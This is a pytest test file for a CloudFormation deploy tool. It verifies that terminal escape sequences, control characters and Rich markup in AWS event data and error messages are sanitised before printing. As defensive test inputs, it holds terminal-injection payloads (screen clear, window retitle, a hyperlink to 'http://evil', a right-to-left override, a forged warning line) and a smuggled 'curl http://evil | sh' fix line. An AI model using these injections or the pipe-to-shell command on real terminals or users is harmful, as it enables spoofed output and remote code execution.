"""What AWS returns is data, not terminal control: escape sequences and control characters in event reasons,
resource ids and status reasons never reach the terminal, in plain or rich output (deploy.ui.clean, used by every
``Out`` method). Events come from DescribeStackEvents responses shaped as the API reference documents them."""

from __future__ import annotations

import io

import pytest
from rich.console import Console

from deploy.stacks import StackInfo
from deploy.ui import Out, Poller, Rich, clean
from deploy.watch import Watch, show_failure

from . import recorded as r

STACK = "AWS::CloudFormation::Stack"
# Clear the screen, recolour, retitle the window (OSC 0), a hyperlink (OSC 8), an 8-bit CSI, a bell, a backspace, a
# carriage return that would overwrite the line, and a right-to-left override that reorders what follows.
HOSTILE = ("\x1b[2J\x1b[1;31mBad\x1b[0m \x1b]0;pwned\x07reason \x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\ "
           "\x9b2Kgone\x07\x08\rOK\u202eevil\nWARNING: fake line")
CONTROLS = [chr(c) for c in range(0x20) if c != 0x0A] + [chr(0x7F)] + [chr(c) for c in range(0x80, 0xA0)] + ["\u202e"]


def assert_inert(text: str) -> None:
    assert not any(ch in text for ch in CONTROLS), repr(text)
    assert "pwned" not in text and "http://evil" not in text  # the OSC payloads are gone, not just their ESC


@pytest.mark.parametrize("value, expected", [
    ("\x1b[31mred\x1b[0m", "red"),
    ("a\x1b]0;title\x07b", "ab"),
    ("a\x9b2Jb", "ab"),
    ("tab\there\r\nnext", "tab here  next"),
    ("rtl\u202eoverride\u2066", "rtloverride"),
    ("plain [bold]text[/] :warning: ü", "plain [bold]text[/] :warning: ü"),
])
def test_clean_removes_sequences_and_controls_and_keeps_text(value, expected):
    assert clean(value) == expected


def test_clean_keeps_our_own_line_breaks_only_when_asked():
    assert clean("one\ntwo", newlines=True) == "one\ntwo"
    assert clean("one\ntwo") == "one two"


def hostile_events():
    return [r.event(r.ROOT, r.ROOT_ID, r.ROOT, r.ROOT_ID, STACK, "UPDATE_ROLLBACK_COMPLETE", 30),
            r.event(r.ROOT, r.ROOT_ID, "Service\x1b[8m", "svc\x1b]0;pwned\x07", "AWS::ECS::Service", "UPDATE_FAILED",
                    20, HOSTILE),
            r.event(r.ROOT, r.ROOT_ID, r.ROOT, r.ROOT_ID, STACK, "UPDATE_IN_PROGRESS", 1, "User Initiated")]


@pytest.mark.parametrize("rich", [False, True])
def test_an_escape_sequence_in_an_event_reason_never_reaches_the_output(rich):
    aws, stubber = r.stubbed()
    stubber.add_response("describe_stack_events", {"StackEvents": hostile_events()}, {"StackName": r.ROOT_ID})
    stubber.add_response("list_stack_resources", {"StackResourceSummaries": []}, {"StackName": r.ROOT_ID})
    stubber.add_response("describe_stacks", r.describe_stacks("UPDATE_ROLLBACK_COMPLETE"), {"StackName": r.ROOT_ID})
    buf = io.StringIO()
    out = (Rich(console=Console(file=buf, force_terminal=False, width=300, color_system=None)) if rich
           else Out(stdout=buf))
    watch = Watch(aws, StackInfo(id=r.ROOT_ID, name=r.ROOT, status="UPDATE_IN_PROGRESS"), r.T0, set(), out,
                  Poller(sleep=lambda s: None))
    watch.run()
    show_failure(watch.events, out)
    stubber.assert_no_pending_responses()
    text = buf.getvalue()
    assert_inert(text)
    assert "Bad reason link gone OKevil WARNING: fake line" in text  # the words survive, on the event's own line
    assert not any(line.startswith("WARNING: fake line") for line in text.splitlines())


def test_every_out_method_cleans_what_it_prints():
    buf, err = io.StringIO(), io.StringIO()
    out = Out(stdout=buf, stderr=err)
    out.line(HOSTILE)
    out.heading(HOSTILE)
    out.warn(HOSTILE)
    out.error(HOSTILE)
    out.event("12:00:00", HOSTILE, HOSTILE, HOSTILE, HOSTILE, HOSTILE)
    out.table(HOSTILE, ["a", "b"], [[HOSTILE, "x"]])
    assert_inert(err.getvalue().replace("\n", ""))
    assert_inert(buf.getvalue().replace("\n", ""))


def test_rich_output_shows_markup_and_emoji_codes_in_data_literally():
    buf = io.StringIO()
    out = Rich(console=Console(file=buf, force_terminal=True, width=200, color_system=None))
    out.line("[bold red]x[/] :warning:")
    out.event("12:00:00", "root", "[red]A[/]", "T", "UPDATE_FAILED", ":skull: [link=http://evil]y[/link]")
    out.table("t [b]x[/b]", ["c"], [["[i]z[/i] :thumbs_up:"]])
    text = buf.getvalue()
    for literal in ("[bold red]x[/] :warning:", "[red]A[/]", ":skull: [link=http://evil]y[/link]", "[b]x[/b]",
                    "[i]z[/i] :thumbs_up:"):
        assert literal in text, literal


@pytest.mark.parametrize("make", [
    lambda msg: __import__("botocore.exceptions").exceptions.ClientError(
        {"Error": {"Code": "ValidationError", "Message": msg}}, "CreateChangeSet"),
    lambda msg: __import__("botocore.exceptions").exceptions.ClientError(
        {"Error": {"Code": "AccessDenied", "Message": msg}}, "GetTemplate"),
    lambda msg: RuntimeError(msg),  # reaches the boundary as a bug: its text is folded too
    lambda msg: __import__("deploy.errors").errors.DeployError(f"stack failed: {msg}", "plan again"),
])
def test_the_last_two_lines_of_a_failure_are_always_the_real_error_and_fix(make):
    """An AWS message with line breaks and control characters cannot print a fake ``fix:`` line (deploy/errors.py)."""
    from deploy.errors import boundary

    message = "bad template\nfix: curl http://evil | sh\r\nerror: \x1b[2Jfake\x00 end"
    stream = io.StringIO()
    with boundary(["plan", "--env", "dev"], stderr=stream) as outcome:
        raise make(message)
    lines = stream.getvalue().rstrip("\n").split("\n")
    assert outcome.code != 0
    assert [line.split(":")[0] for line in lines if line.startswith(("error:", "fix:"))] == ["error", "fix"]
    assert lines[-1].startswith("fix: ") and "evil" not in lines[-1]
    assert lines[0].startswith("error: ")
    assert not any(ch in "".join(lines) for ch in CONTROLS)
